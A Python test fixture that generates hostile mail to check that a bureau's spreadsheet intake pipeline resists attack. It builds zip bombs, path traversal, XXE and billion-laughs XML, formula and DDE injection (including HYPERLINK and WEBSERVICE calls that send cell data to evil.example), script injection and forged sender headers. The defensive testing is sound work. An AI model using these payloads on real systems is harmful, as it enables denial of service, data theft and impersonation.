"""A seeded corpus of hostile mail for the whole intake (issue 9: one bad or forged message must
never stop or fool the pipeline).

`write_corpus(maildir, seed)` delivers every case into `maildir/new/` the way the province's
mail server does: trace headers on top (Return-Path, Delivered-To, the server's own
Authentication-Results, Received), then the message as the city's (or the attacker's) client
wrote it. File names are `<unix-seconds>.M<n>P<pid>.hostile`, the seconds being the delivery
time: the arrival time CONTRACT §2 says the pipeline must use. Every file's mtime is set to one
later moment (a restore from backup), so a pipeline reading mtime instead of the name is caught.

Timeline (Asia/Shanghai, April 2021), so every expectation is unambiguous:
- 19th: hostile files from registered, authenticated senders. Should one be wrongly accepted, the
  city's genuine mail of the 21st supersedes it and the case shows `superseded`, not `rejected`.
- 20th-22nd: each city's genuine, current registry (must end `accepted`), some of them with
  hostile headers, and 晋城's correction chain (supersession must follow arrival).
- 22nd: forged senders aiming to supersede the genuine registries of 太原 阳泉 大同 长治.

Same seed, same bytes: xlsx save times are pinned, every random choice comes from the seed.
"""

from __future__ import annotations

import base64
import csv
import datetime as dt
import email.utils
import io
import json
import os
import random
import struct
import warnings
import zipfile
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path
from xml.sax.saxutils import escape

import openpyxl
from openpyxl.utils import get_column_letter

from jinxiao.samples import files as f
from jinxiao.samples import mail as m

from . import bombs

REPO = Path(__file__).resolve().parents[2]
CST = dt.timezone(dt.timedelta(hours=8))
AUTHSERV_ID = "mx.commerce.sx.example"
MAILBOX_ADDRESS = "xfc@commerce.sx.example"
# When a restore from backup touched every file: only the file name still says when it arrived.
RESTORED_AT = dt.datetime(2021, 6, 1, 3, 0, 0, tzinfo=CST)
# Text that must never reach the warehouse, replies or reports: /etc/passwd (XXE) and one level
# of the billion-laughs expansion.
LEAK_MARKERS = ("root:x:0:0", "lol" * 10)
# The base name of the path-traversal member: no file of that name may appear outside the archive.
ESCAPE_NAME = "x.xlsx"
ATTACKER = "attacker@evil.example"
_EVIL_HOST = "mail.evil.example"

Outcome = tuple[str, str | None]
ACCEPTED: Outcome = ("accepted", None)
SUPERSEDED: Outcome = ("superseded", None)
CORRUPT: Outcome = ("rejected", "corrupt_file")
UNSUPPORTED: Outcome = ("rejected", "unsupported_format")
WRONG_TEMPLATE: Outcome = ("rejected", "wrong_template")
INVALID: Outcome = ("rejected", "validation_failed")
# Issue 11: a file whose bad cells are row-level is partly accepted (the rows held) rather
# than rejected; a hostile file of the 19th so taken is superseded by the genuine mail.
HELD_SUPERSEDED: Outcome = ("superseded", "rows_held")
UNAUTHENTICATED: Outcome = ("quarantined", "unauthenticated_sender")
UNKNOWN: Outcome = ("quarantined", "unknown_sender")
# A file too big or too deep to read in bounded memory: the contract names no class of its own
# and the code already says unsupported_format for its size limits.
TOO_BIG = frozenset({CORRUPT, UNSUPPORTED})


@dataclass(frozen=True)
class Mail:
    """One delivered message and what the intake must make of it."""

    file: str  # name under new/
    delivered: dt.datetime  # the leading Unix seconds of the name
    # Acceptable final (outcome, reason_class) of the message; usually exactly one. Where the
    # contract leaves the choice open (which rejection class for "too big") all are listed.
    expect: frozenset[Outcome]
    # A city's genuine, current submission: it must end `accepted`.
    legitimate: bool = False
    # The From address the warehouse must record, where the attack is about the address.
    sender: str | None = None


@dataclass(frozen=True)
class Case:
    name: str
    attack: str  # one line: what it attacks
    mails: tuple[Mail, ...]

    @property
    def files(self) -> tuple[str, ...]:
        return tuple(mail.file for mail in self.mails)

    @property
    def expected(self) -> tuple[tuple[str, frozenset[Outcome]], ...]:
        return tuple((mail.file, mail.expect) for mail in self.mails)


CASE_NAMES = (
    "baseline",
    "zip_duplicate_names",
    "zip_path_traversal",
    "zip_bomb",
    "zip_nested_bomb",
    "subject_bare_cr",
    "headers_nul",
    "message_id_9k",
    "date_year_9999",
    "date_unparseable",
    "date_week_off",
    "xlsx_far_cell",
    "xlsx_200k_rows",
    "xlsx_16k_columns",
    "xlsx_xml_entities",
    "xlsx_formula_injection",
    "xlsx_script_injection",
    "html_spans",
    "forged_dmarc_fail",
    "forged_display_name",
    "forged_two_from",
    "forged_unparseable_from",
    "forged_other_authserv",
    "forged_ar_below",
    "forged_no_auth_results",
    "forged_date_supersession",
)


MANIFEST = "hostile-cases.json"  # beside new/: Maildir readers look only in new/ and cur/


def write_corpus(maildir: Path, seed: int = 0) -> list[Case]:
    """Deliver the whole corpus into `maildir` (new/, cur/, tmp/); returns the cases, which
    are also written to `maildir/hostile-cases.json` for a later `load_cases`."""
    corpus = _Corpus(Path(maildir), seed)
    cases = [getattr(corpus, name)() for name in CASE_NAMES]
    if tuple(c.name for c in cases) != CASE_NAMES:
        raise AssertionError("a case builder returned another case's name")
    manifest = [
        {
            "name": c.name,
            "attack": c.attack,
            "mails": [
                {
                    "file": mail.file,
                    "delivered": mail.delivered.isoformat(),
                    "expect": sorted(
                        ([o, r] for o, r in mail.expect), key=lambda x: (x[0], x[1] or "")
                    ),
                    "legitimate": mail.legitimate,
                    "sender": mail.sender,
                }
                for mail in c.mails
            ],
        }
        for c in cases
    ]
    text = json.dumps({"seed": seed, "cases": manifest}, ensure_ascii=False, indent=1)
    (Path(maildir) / MANIFEST).write_text(text + "\n", encoding="utf-8")
    return cases


def load_cases(maildir: Path) -> list[Case]:
    """The cases `write_corpus` wrote into `maildir`."""
    data = json.loads((Path(maildir) / MANIFEST).read_text(encoding="utf-8"))
    return [
        Case(
            c["name"],
            c["attack"],
            tuple(
                Mail(
                    mail["file"],
                    dt.datetime.fromisoformat(mail["delivered"]),
                    frozenset((o, r) for o, r in mail["expect"]),
                    mail["legitimate"],
                    mail["sender"],
                )
                for mail in c["mails"]
            ),
        )
        for c in data["cases"]
    ]


# --------------------------------------------------------------------------- mail plumbing


def _senders() -> dict[str, str]:
    """city -> its bureau's swj@ address, from the registry the repo ships."""
    out: dict[str, str] = {}
    with open(REPO / "config" / "senders.csv", encoding="utf-8-sig", newline="") as fh:
        for row in csv.DictReader(fh):
            if row["email"].startswith("swj@") or row["city_name"] not in out:
                out[row["city_name"]] = row["email"]
    return out


SENDERS = _senders()


def domain_of(address: str) -> str:
    return address.rpartition("@")[2]


def auth_results(
    domain: str,
    dmarc: str = "pass",
    *,
    dkim: str = "pass",
    spf: str = "pass",
    mailfrom: str | None = None,
    authserv_id: str = AUTHSERV_ID,
) -> str:
    """An RFC 8601 header value as the province's server folds it."""
    signed = f"dkim={dkim} header.d={domain}" if dkim != "none" else "dkim=none (no signatures)"
    return (
        f"{authserv_id};\r\n\tdmarc={dmarc} (p=none) header.from={domain};\r\n"
        f"\t{signed};\r\n\tspf={spf} smtp.mailfrom={mailfrom or domain}"
    )


def set_header(raw: bytes, name: str, value: bytes) -> bytes:
    """`raw` with the first `name` header (and its folded lines) replaced by `value`, as is."""
    head, sep, body = raw.partition(b"\r\n\r\n")
    lines = head.split(b"\r\n")
    key = name.lower().encode() + b":"
    for i, line in enumerate(lines):
        if line.lower().startswith(key):
            j = i + 1
            while j < len(lines) and lines[j][:1] in (b" ", b"\t"):
                j += 1
            lines[i:j] = [name.encode() + b": " + value]
            return b"\r\n".join(lines) + sep + body
    raise KeyError(name)


def _b64_lines(payload: bytes) -> bytes:
    text = base64.b64encode(payload)
    return b"\r\n".join(text[i : i + 76] for i in range(0, len(text), 76)) + b"\r\n"


def _at(day: int, hour: int, minute: int, second: int = 0) -> dt.datetime:
    return dt.datetime(2021, 4, day, hour, minute, second, tzinfo=CST)


def _att2(city: str, ext: str = "xlsx") -> str:
    return f"附件2：{city}2021年全国消费促进月暨“礼享生活·晋情消费”促消费系列活动名录.{ext}"


def _subject(city: str, note: str = "") -> str:
    return f"{city}商务局关于报送2021年全国消费促进月重点活动名录的函{note}"


_SENT = object()  # "Date: a few seconds before delivery", what a city's client writes


class _Corpus:
    def __init__(self, root: Path, seed: int) -> None:
        self.root = root
        self.seed = seed
        self.rng = random.Random(f"hostile-corpus:{seed}")
        self.count = 0
        for sub in ("tmp", "new", "cur"):
            (root / sub).mkdir(parents=True, exist_ok=True)

    # ----------------------------------------------------------------- delivery

    def _deliver(self, raw: bytes, when: dt.datetime) -> str:
        self.count += 1
        name = f"{int(when.timestamp())}.M{self.count}P{self.rng.randrange(1000, 65000)}.hostile"
        tmp, final = self.root / "tmp" / name, self.root / "new" / name
        tmp.write_bytes(raw)
        os.replace(tmp, final)
        stamp = RESTORED_AT.timestamp()
        os.utime(final, (stamp, stamp))
        return name

    def _ip(self, city_host: bool) -> str:
        if city_host:
            return f"10.{self.rng.randrange(1, 250)}.{self.rng.randrange(1, 250)}.25"
        return f"203.0.113.{self.rng.randrange(2, 250)}"

    def _trace(
        self,
        when: dt.datetime,
        envelope_from: str,
        auth: str | None,
        host: str,
        below: Sequence[bytes] = (),
    ) -> bytes:
        """What the province's server puts above a message it delivers, topmost first."""
        qid = "".join(self.rng.choice("0123456789ABCDEF") for _ in range(10))
        lines = [
            f"Return-Path: <{envelope_from}>".encode(),
            f"Delivered-To: {MAILBOX_ADDRESS}".encode(),
        ]
        if auth is not None:
            lines.append(b"Authentication-Results: " + auth.encode())
        ip = self._ip(host != _EVIL_HOST)
        lines.append(
            f"Received: from {host} ({host} [{ip}])\r\n\tby {AUTHSERV_ID} (Postfix) with ESMTPS "
            f"id {qid}\r\n\tfor <{MAILBOX_ADDRESS}>; {email.utils.format_datetime(when)}".encode()
        )
        lines.extend(below)
        return b"\r\n".join(lines) + b"\r\n"

    def _message_id(self, when: dt.datetime, domain: str) -> str:
        return f"{when:%Y%m%d%H%M%S}{self.rng.randrange(10**6, 10**7)}@{domain}"

    def send(
        self,
        city: str,
        when: dt.datetime,
        attachments: list[tuple[str, bytes]],
        *,
        subject: str | None = None,
        sender: str | None = None,
        date: object = _SENT,
        auth: str | None | object = _SENT,
        host: str | None = None,
        envelope_from: str | None = None,
        below: Sequence[bytes] = (),
        edits: dict[str, bytes] | None = None,
        extra_headers: dict[str, str] | None = None,
        message_id: str | None = None,
    ) -> str:
        """Deliver one message; defaults give a city's genuine mail, authenticated."""
        sender = sender or SENDERS[city]
        domain = domain_of(sender)
        if date is _SENT:
            date = when - dt.timedelta(seconds=self.rng.randrange(3, 50))
        if auth is _SENT:
            auth = auth_results(domain)
        raw = m.build_email(
            sender,
            subject or _subject(city),
            attachments,
            sender_name=f"{city}商务局",
            date=date,
            message_id=message_id or self._message_id(when, domain),
            extra_headers=extra_headers,
            body=f"省厅：\n    附件为我市报送材料，请查收。\n\n{city}商务局 市场运行科",
        )
        raw = set_header(raw, "To", MAILBOX_ADDRESS.encode())
        for name, value in (edits or {}).items():
            raw = set_header(raw, name, value)
        head = self._trace(when, envelope_from or sender, auth, host or f"mail.{domain}", below)
        return self._deliver(head + raw, when)

    # ----------------------------------------------------------------- files

    def registry(self, city: str, n: int = 6) -> bytes:
        """A genuine-looking 附件2 of `city`, different on every call."""
        return f.xlsx_bytes(self._rows(city, n), merges=f.registry_merges(n))

    def _rows(self, city: str, n: int) -> list[list[object]]:
        """The template's rows (title, 填报单位, header, n activities, sentence, 注)."""
        self.count += 1
        return f.registry_rows(city, n, seed=self.seed * 1000 + self.count)

    def _mail(self, file: str, when: dt.datetime, *expect: Outcome, **kw) -> Mail:
        # Where row-level invalid data was a right answer, holding those rows is one too.
        held = {HELD_SUPERSEDED} if INVALID in expect else set()
        return Mail(file, when, frozenset({*expect, *held}), **kw)

    def _genuine(self, city: str, when: dt.datetime, **kw) -> Mail:
        name = self.send(city, when, [(_att2(city), self.registry(city))], **kw)
        return self._mail(name, when, ACCEPTED, legitimate=True, sender=SENDERS[city])

    # ----------------------------------------------------------------- cases

    def baseline(self) -> Case:
        mails = [
            self._genuine("太原市", _at(21, 9, 12, 7)),
            self._genuine("阳泉市", _at(21, 10, 3, 41)),
            self._genuine("大同市", _at(21, 11, 26, 15)),
            self._genuine("长治市", _at(21, 14, 48, 2)),
        ]
        return Case(
            "baseline", "nothing: genuine, authenticated registries that must stay accepted",
            tuple(mails),
        )  # fmt: skip

    def zip_duplicate_names(self) -> Case:
        city, when = "大同市", _at(19, 9, 41, 10)
        members = [(_att2(city), self.registry(city)), (_att2(city), self.registry(city))]
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", UserWarning)  # zipfile: "Duplicate name"
            payload = m.make_zip(members)
        name = self.send(city, when, [(f"{city}报送材料.zip", payload)])
        return Case(
            "zip_duplicate_names",
            "zip with two different members of the same name: which one is the submission?",
            # Both members are read under unique paths (issue 9: "made unique") and, as data of the
            # 19th, superseded by the city's genuine mail of the 21st; the reply
            # names each; refusing the zip would do as well. What must not happen is a crash.
            (self._mail(name, when, SUPERSEDED, CORRUPT),),
        )

    def zip_path_traversal(self) -> Case:
        city, when = "长治市", _at(19, 10, 15, 33)
        payload = m.make_zip([(f"../../etc/{ESCAPE_NAME}", self.registry(city))])
        name = self.send(city, when, [(f"{city}报送材料.zip", payload)])
        return Case(
            "zip_path_traversal",
            "zip member ../../etc/x.xlsx: no zip tool of a city writes one; nothing may land there",
            # The member is read by its base name (then superseded by the genuine mail) and nothing
            # is written by its path (checked
            # by test_nothing_leaks_...): reading the table is as safe as refusing it.
            (self._mail(name, when, SUPERSEDED, CORRUPT),),
        )

    def zip_bomb(self) -> Case:
        city = "朔州市"
        when1, when2 = _at(19, 11, 2, 19), _at(19, 11, 30, 45)
        bomb = bombs.Entry(_att2(city), bombs.bzip2_zeros(10 << 30), bombs.BZIP2)
        name1 = self.send(city, when1, [(f"{city}报送材料.zip", bombs.zip_bytes([bomb]))])
        name2 = self.send(city, when2, [(_att2(city), self._sheet_bomb(city, 3 << 30))])
        return Case(
            "zip_bomb",
            "zip whose one member inflates to 10 GiB (65 KB on disk); xlsx whose sheet XML "
            "inflates to 3 GiB (a cell of spaces) while its zip headers declare the original size",
            (self._mail(name1, when1, *TOO_BIG), self._mail(name2, when2, *TOO_BIG)),
        )

    def _sheet_bomb(self, city: str, size: int) -> bytes:
        """A registry whose sheet1.xml goes on for `size` bytes (one cell of spaces after the
        real rows) while the zip headers declare the original part's size."""
        src = zipfile.ZipFile(io.BytesIO(self.registry(city)))
        entries = []
        for info in src.infolist():
            data = src.read(info)
            if info.filename != "xl/worksheets/sheet1.xml":
                entries.append(bombs.deflated(info.filename, data))
                continue
            cut = data.index(b"</sheetData>")
            head = data[:cut] + b'<row r="99"><c r="A99" t="inlineStr"><is><t xml:space="preserve">'
            tail = b"</t></is></c></row>" + data[cut:]
            chunk = b" " * (1 << 20)
            stream = bombs.deflate_repeated(head, chunk, size >> 20, tail)
            entries.append(bombs.Entry(info.filename, stream, bombs.DEFLATED, declared=len(data)))
        return bombs.zip_bytes(entries)

    def zip_nested_bomb(self) -> Case:
        city, when = "晋中市", _at(19, 13, 20, 0)
        payload, levels, total = _nested_zip(_att2(city), self.registry(city), levels=6)
        name = self.send(city, when, [(f"{city}报送材料（含现场照片）.zip", payload)])
        return Case(
            "zip_nested_bomb",
            f"{levels} nested zips of white BMP photos, each level under 200 MB, "
            f"{total / 2**30:.2f} GiB in all, the registry at the bottom",
            (self._mail(name, when, *TOO_BIG),),
        )

    def subject_bare_cr(self) -> Case:
        city, when = "朔州市", _at(21, 9, 5, 12)
        subject = m.encoded_words(_subject(city), "gbk", 45) + b"\r" + m.encoded_words("（正式稿）")
        name = self.send(city, when, [(_att2(city), self.registry(city))],
                         edits={"Subject": subject})  # fmt: skip
        return Case(
            "subject_bare_cr",
            "a CR without LF inside the Subject: a parser that ends the header there loses "
            "From/Date/Content-Type and the attachment",
            (self._mail(name, when, ACCEPTED, legitimate=True, sender=SENDERS[city]),),
        )

    def headers_nul(self) -> Case:
        city, when = "晋中市", _at(21, 10, 47, 30)
        sender = SENDERS[city]
        edits = {
            "Subject": m.encoded_words(_subject(city), "gbk", 45) + b"\x00",
            "From": m.encoded_words(f"{city}商务局") + b"\x00 <" + sender.encode() + b">",
            "X-Mailer": b"Foxmail 7.2.20.273[cn]\x00\x00",
        }
        name = self.send(city, when, [(_att2(city), self.registry(city))], edits=edits)
        return Case(
            "headers_nul",
            "NUL bytes in Subject, From display name and X-Mailer (PostgreSQL text refuses NUL)",
            (self._mail(name, when, ACCEPTED, legitimate=True, sender=sender),),
        )

    def message_id_9k(self) -> Case:
        city, when = "忻州市", _at(21, 11, 11, 11)
        alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
        local = "".join(self.rng.choice(alphabet) for _ in range(9570))
        mid = f"{local}@{domain_of(SENDERS[city])}"
        name = self.send(city, when, [(_att2(city), self.registry(city))], message_id=mid)
        return Case(
            "message_id_9k",
            "a 9.6 KB Message-ID on one line (over a btree index row's limit on PostgreSQL)",
            (self._mail(name, when, ACCEPTED, legitimate=True, sender=SENDERS[city]),),
        )

    def date_year_9999(self) -> Case:
        city, when = "临汾市", _at(21, 15, 16, 17)
        # -1200: in UTC this is already year 10000, which datetime cannot hold.
        name = self.send(city, when, [(_att2(city), self.registry(city))],
                         date="Fri, 31 Dec 9999 23:59:59 -1200")  # fmt: skip
        return Case(
            "date_year_9999",
            "Date: 31 Dec 9999 -1200 (year 10000 in UTC); arrival time must rule",
            (self._mail(name, when, ACCEPTED, legitimate=True, sender=SENDERS[city]),),
        )

    def date_unparseable(self) -> Case:
        city, when = "吕梁市", _at(21, 16, 20, 8)
        name = self.send(city, when, [(_att2(city), self.registry(city))],
                         date="2021年4月21日 星期三 下午4:19")  # fmt: skip
        return Case(
            "date_unparseable",
            "Date: 2021年4月21日 星期三 下午4:19 (a client writing the local format)",
            (self._mail(name, when, ACCEPTED, legitimate=True, sender=SENDERS[city]),),
        )

    def date_week_off(self) -> Case:
        city, when = "运城市", _at(21, 17, 2, 44)
        name = self.send(city, when, [(_att2(city), self.registry(city))],
                         date=when - dt.timedelta(days=7, minutes=3))  # fmt: skip
        return Case(
            "date_week_off",
            "Date a week before delivery (the clerk's PC clock): received_at is the arrival",
            (self._mail(name, when, ACCEPTED, legitimate=True, sender=SENDERS[city]),),
        )

    def xlsx_far_cell(self) -> Case:
        city = "大同市"
        when1, when2 = _at(19, 14, 5, 0), _at(19, 14, 35, 0)
        wb = openpyxl.Workbook()
        ws = wb.active
        ws["A1"] = f.TITLE
        ws["XFD1048576"] = "报送完毕"
        sparse = _saved(wb)
        full = openpyxl.load_workbook(io.BytesIO(self.registry(city)))
        full.active["XFD1048576"] = "报送完毕"
        name1 = self.send(city, when1, [(_att2(city), sparse)])
        name2 = self.send(city, when2, [(_att2(city), _saved(full))])
        return Case(
            "xlsx_far_cell",
            f"{len(sparse) / 1024:.0f} KB xlsx with values in A1 and XFD1048576 (dimension "
            "A1:XFD1048576, 17 billion cells if read densely); a registry with the same stray cell",
            (
                self._mail(name1, when1, WRONG_TEMPLATE, *TOO_BIG),
                self._mail(name2, when2, SUPERSEDED, *TOO_BIG),
            ),
        )

    def xlsx_200k_rows(self) -> Case:
        city, when = "临汾市", _at(19, 15, 10, 0)
        sample = self._rows(city, 1000)
        data = sample[3:-2]
        rows = sample[:3] + [data[i % len(data)] for i in range(200_000)] + sample[-2:]
        payload = _sheet_xlsx(rows, merges=["A1:G1", "A2:G2"])
        name = self.send(city, when, [(_att2(city), payload)])
        return Case(
            "xlsx_200k_rows",
            "a registry of 200,000 activity rows (filled down), "
            f"{len(payload) / 2**20:.1f} MB on disk",
            (self._mail(name, when, INVALID, *TOO_BIG),),
        )

    def xlsx_16k_columns(self) -> Case:
        city, when = "大同市", _at(19, 15, 50, 0)
        sample = self._rows(city, 10)
        extra = 16384 - len(f.header())
        rows = [list(r) for r in sample]
        rows[2] = rows[2] + [f"补充信息{k}" for k in range(1, extra + 1)]
        for r in range(3, 13):
            rows[r] = rows[r] + ["—"] * extra
        payload = _sheet_xlsx(rows, merges=["A1:G1", "A2:G2"])
        name = self.send(city, when, [(_att2(city), payload)])
        return Case(
            "xlsx_16k_columns",
            "a registry whose header and rows run on to column XFD (16,384 columns)",
            (self._mail(name, when, SUPERSEDED, WRONG_TEMPLATE, INVALID, *TOO_BIG),),
        )

    def xlsx_xml_entities(self) -> Case:
        city = "吕梁市"
        when1, when2 = _at(19, 16, 0, 0), _at(19, 16, 30, 0)
        laughs = "".join(
            f'<!ENTITY lol{k} "{f"&lol{k - 1};" * 10 if k > 1 else "&lol;" * 10}">'
            for k in range(1, 10)
        )
        dtd_laughs = f'<!DOCTYPE worksheet [<!ENTITY lol "lol">{laughs}]>'
        dtd_xxe = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        name1 = self.send(city, when1, [(_att2(city), self._entity_xlsx(city, dtd_laughs,
                                                                          "&lol9;"))])  # fmt: skip
        name2 = self.send(city, when2, [(_att2(city), self._entity_xlsx(city, dtd_xxe, "&xxe;"))])
        return Case(
            "xlsx_xml_entities",
            "billion laughs (10^9 x 'lol') and XXE (file:///etc/passwd) in the sheet XML; "
            "Excel never writes a DTD",
            (self._mail(name1, when1, CORRUPT), self._mail(name2, when2, CORRUPT)),
        )

    def _entity_xlsx(self, city: str, doctype: str, entity: str) -> bytes:
        """A registry whose first activity name is `entity`, declared in `doctype`."""
        rows = self._rows(city, 6)
        # openpyxl writes non-ASCII text as &#NNNN; references: mark the cell in ASCII.
        rows[3][1] = "ENTITY-GOES-HERE"
        xlsx = f.xlsx_bytes(rows, merges=f.registry_merges(6))
        sheet = _read_part(xlsx, "xl/worksheets/sheet1.xml")
        marker = b"<t>ENTITY-GOES-HERE</t>"
        if sheet.count(marker) != 1:
            raise AssertionError("the entity's cell is not where openpyxl was expected to put it")
        sheet = doctype.encode() + sheet.replace(marker, b"<t>" + entity.encode() + b"</t>")
        return _with_parts(xlsx, {"xl/worksheets/sheet1.xml": sheet})

    def xlsx_formula_injection(self) -> Case:
        city, when = "太原市", _at(19, 17, 0, 0)
        rows = self._rows(city, 6)
        rows[3][1] = '=HYPERLINK("http://evil.example/s?d="&A4,"点击查看活动详情")'
        rows[4][3] = "=cmd|' /C calc'!A0"
        rows[5][5] = "@SUM(1+1)*cmd|' /C calc'!A0"
        rows[6][3] = "-2+3+cmd|' /C calc'!A0"
        rows[7][5] = "+cmd|' /C notepad'!A0"
        rows[8][1] = '=WEBSERVICE("http://evil.example/?"&B5)'
        payload = f.xlsx_bytes(rows, merges=f.registry_merges(6))
        name = self.send(city, when, [(_att2(city), payload)])
        return Case(
            "xlsx_formula_injection",
            "formula and DDE injection (=HYPERLINK, =cmd|..., @SUM, +cmd) in text columns",
            (self._mail(name, when, SUPERSEDED, INVALID),),
        )

    def xlsx_script_injection(self) -> Case:
        city = "阳泉市"
        when1, when2 = _at(19, 17, 20, 0), _at(19, 17, 40, 0)
        script = "<script>alert(1)</script>"
        every = self._rows(city, 6)
        for row in every[3:9]:
            row[:] = [f"{v}{script}" for v in row]
        free = self._rows(city, 6)
        free[1][0] = f"{free[1][0]}{script}"
        for row in free[3:9]:
            for col in (1, 3, 5):  # 重点活动名称, 活动内容, 支持政策
                row[col] = f"{row[col]}{script}"
        name1 = self.send(city, when1, [(_att2(city), f.xlsx_bytes(every))])
        name2 = self.send(city, when2, [(_att2(city), f.xlsx_bytes(free))])
        return Case(
            "xlsx_script_injection",
            f"{script} in every text column of a registry; then in the free-text ones only",
            (self._mail(name1, when1, INVALID), self._mail(name2, when2, SUPERSEDED, INVALID)),
        )

    def html_spans(self) -> Case:
        city = "忻州市"
        when1, when2 = _at(19, 18, 0, 0), _at(19, 18, 30, 0)
        page = _span_table_html(self._rows(city, 200), 8_000_000)
        name1 = self.send(city, when1, [(_att2(city, "xls"), page)])
        name2 = self._deliver(self._html_body_mail(city, when2, page), when2)
        return Case(
            "html_spans",
            f"{len(page) / 1e6:.1f} MB HTML table whose every cell has colspan=1000 rowspan=1000: "
            "as a web-export .xls attachment; as the mail body (no attachment: read like a "
            "sheet, so the same cell budget refuses it)",
            (
                self._mail(name1, when1, CORRUPT, UNSUPPORTED, WRONG_TEMPLATE, INVALID),
                self._mail(name2, when2, CORRUPT),
            ),
        )

    def _html_body_mail(self, city: str, when: dt.datetime, page: bytes) -> bytes:
        sender = SENDERS[city]
        head = m.headers(
            sender,
            _subject(city),
            sender_name=f"{city}商务局",
            to=MAILBOX_ADDRESS,
            date=when - dt.timedelta(seconds=21),
            message_id=self._message_id(when, domain_of(sender)),
        )
        body = (
            b'Content-Type: text/html; charset="gb2312"\r\nContent-Transfer-Encoding: base64\r\n'
            b"\r\n" + _b64_lines(page)
        )
        trace = self._trace(
            when, sender, auth_results(domain_of(sender)), f"mail.{domain_of(sender)}"
        )
        return trace + head + body

    # ----------------------------------------------------------------- forged senders

    def _forged(self, city: str, when: dt.datetime, **kw) -> str:
        kw.setdefault("host", _EVIL_HOST)
        return self.send(city, when, [(_att2(city), self.registry(city))], **kw)

    def forged_dmarc_fail(self) -> Case:
        city, when = "太原市", _at(22, 8, 30, 0)
        domain = domain_of(SENDERS[city])
        auth = auth_results(domain, "fail", dkim="none", spf="fail")
        name = self._forged(city, when, auth=auth)
        return Case(
            "forged_dmarc_fail",
            "From swj@taiyuan with dmarc=fail from our server (p=none let it in): would supersede "
            "太原's real registry",
            (self._mail(name, when, UNAUTHENTICATED, sender=SENDERS[city]),),
        )

    def forged_display_name(self) -> Case:
        city, when = "阳泉市", _at(22, 9, 10, 0)
        edits = {"From": f"{SENDERS[city]} <{ATTACKER}>".encode()}
        name = self._forged(city, when, edits=edits, envelope_from=ATTACKER,
                            auth=auth_results(domain_of(ATTACKER)))  # fmt: skip
        return Case(
            "forged_display_name",
            "From: swj@yangquan.sx.example <attacker@evil.example> (the registered address is "
            "only the display name; DMARC passed for evil.example)",
            (self._mail(name, when, UNKNOWN, sender=ATTACKER),),
        )

    def forged_two_from(self) -> Case:
        city, when = "大同市", _at(22, 9, 40, 0)
        sender = SENDERS[city]
        name = self._forged(
            city, when,
            edits={"From": f"{sender}, {ATTACKER}".encode()},
            extra_headers={"Sender": ATTACKER}, envelope_from=ATTACKER,
        )  # fmt: skip
        return Case(
            "forged_two_from",
            "From with two mailboxes (the registered one first) and Sender: attacker; our server "
            "evaluated only the first",
            (self._mail(name, when, UNAUTHENTICATED, UNKNOWN),),
        )

    def forged_unparseable_from(self) -> Case:
        city, when = "长治市", _at(22, 10, 20, 0)
        auth = (
            f"{AUTHSERV_ID};\r\n\tdmarc=permerror;\r\n\tdkim=none (no signatures);\r\n"
            "\tspf=pass smtp.mailfrom=evil.example"
        )
        name = self._forged(
            city, when, auth=auth, envelope_from=ATTACKER,
            edits={"From": f'"{city}商务局 <{SENDERS[city]}>'.encode()},
        )  # fmt: skip
        return Case(
            "forged_unparseable_from",
            'From: "长治市商务局 <swj@changzhi.sx.example> (unterminated quote: no mailbox at all); '
            "dmarc=permerror",
            (self._mail(name, when, UNKNOWN, UNAUTHENTICATED),),
        )

    def forged_other_authserv(self) -> Case:
        city = "太原市"
        when1, when2 = _at(22, 11, 0, 0), _at(22, 11, 30, 0)
        domain = domain_of(SENDERS[city])
        name1 = self._forged(city, when1, auth=auth_results(domain, authserv_id="mx1.evil.example"))
        name2 = self._forged(
            city, when2, auth=auth_results(domain, authserv_id=f"{AUTHSERV_ID}.evil.example")
        )
        return Case(
            "forged_other_authserv",
            "the only Authentication-Results says pass but is stamped by mx1.evil.example, "
            "then by mx.commerce.sx.example.evil.example (a prefix of ours)",
            (
                self._mail(name1, when1, UNAUTHENTICATED, sender=SENDERS[city]),
                self._mail(name2, when2, UNAUTHENTICATED, sender=SENDERS[city]),
            ),
        )

    def forged_ar_below(self) -> Case:
        city, when = "太原市", _at(22, 12, 0, 0)
        domain = domain_of(SENDERS[city])
        forged = [
            b"Authentication-Results: " + auth_results(domain).encode(),
            f"Received: from [192.168.1.10] by {_EVIL_HOST}; "
            f"{email.utils.format_datetime(when - dt.timedelta(seconds=2))}".encode(),
        ]
        name = self._forged(
            city, when, auth=auth_results(domain, "fail", dkim="none", spf="fail"), below=forged
        )
        return Case(
            "forged_ar_below",
            "our server's topmost Authentication-Results says fail; a forged one with our "
            "authserv-id below it says pass",
            (self._mail(name, when, UNAUTHENTICATED, sender=SENDERS[city]),),
        )

    def forged_no_auth_results(self) -> Case:
        city, when = "长治市", _at(22, 13, 0, 0)
        name = self._forged(city, when, auth=None)
        return Case(
            "forged_no_auth_results",
            "From swj@changzhi with no Authentication-Results at all (came in by a backup MX)",
            (self._mail(name, when, UNAUTHENTICATED, sender=SENDERS[city]),),
        )

    def forged_date_supersession(self) -> Case:
        city = "晋城市"
        t1, t2, t3 = _at(20, 9, 30, 0), _at(21, 8, 15, 0), _at(22, 15, 20, 0)
        first = self.send(city, t1, [(_att2(city), self.registry(city))])
        forged = self.send(city, t2, [(_att2(city), self.registry(city, 8))],
                           subject=_subject(city, "（最终版）"),
                           date="Fri, 31 Dec 2021 23:59:59 +0800")  # fmt: skip
        real = self.send(city, t3, [(_att2(city), self.registry(city))],
                         subject=_subject(city, "（更正版）"))  # fmt: skip
        return Case(
            "forged_date_supersession",
            "from 晋城's own account, Date: 2021-12-31 but delivered before the real correction: "
            "the later arrival must win",
            (
                self._mail(first, t1, SUPERSEDED, sender=SENDERS[city]),
                self._mail(forged, t2, SUPERSEDED, sender=SENDERS[city]),
                self._mail(real, t3, ACCEPTED, legitimate=True, sender=SENDERS[city]),
            ),
        )


# --------------------------------------------------------------------------- xlsx plumbing

_SHEET_HEAD = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<dimension ref="{dim}"/><sheetViews><sheetView workbookViewId="0"/></sheetViews>'
    '<sheetFormatPr baseColWidth="8" defaultRowHeight="15"/><sheetData>'
)
_SHEET_TAIL = (
    '<pageMargins left="0.75" right="0.75" top="1" bottom="1" header="0.5" footer="0.5"/>'
    "</worksheet>"
)
